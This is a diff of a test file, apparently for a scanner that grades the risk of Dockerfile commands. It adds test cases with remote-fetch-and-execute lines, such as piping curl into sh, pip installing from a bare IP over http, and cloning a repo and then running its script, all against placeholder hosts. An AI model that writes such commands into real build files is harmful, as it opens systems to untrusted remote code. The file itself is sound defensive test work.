@@ -80,6 +80,10 @@ def test_it_does_not_simply_pass(path: str) -> None:
         ("deploy/values.yaml", f"cmd: {VENDOR}", LOW),
         ("Dockerfile", "RUN curl http://localhost:8000/i.sh | sh", LOW),
         ("Dockerfile", "RUN curl -O https://x.invalid/tool && chmod +x tool", LOW),
+        ("Dockerfile", "ADD --chmod=755 https://x.invalid/t /usr/local/bin/tool\nRUN tool", HIGH),
+        ("Dockerfile", "RUN pip install http://203.0.113.5/p.tar.gz", HIGH),
+        ("Dockerfile", "RUN git clone https://x.invalid/r /r && /r/i.sh", MEDIUM),
+        ("Dockerfile", "RUN git clone http://x.invalid/r /r && /r/i.sh", HIGH),
         ("Dockerfile", "RUN curl -O http://x.invalid/tool && chmod +x tool", MEDIUM),
         (
             "Dockerfile",
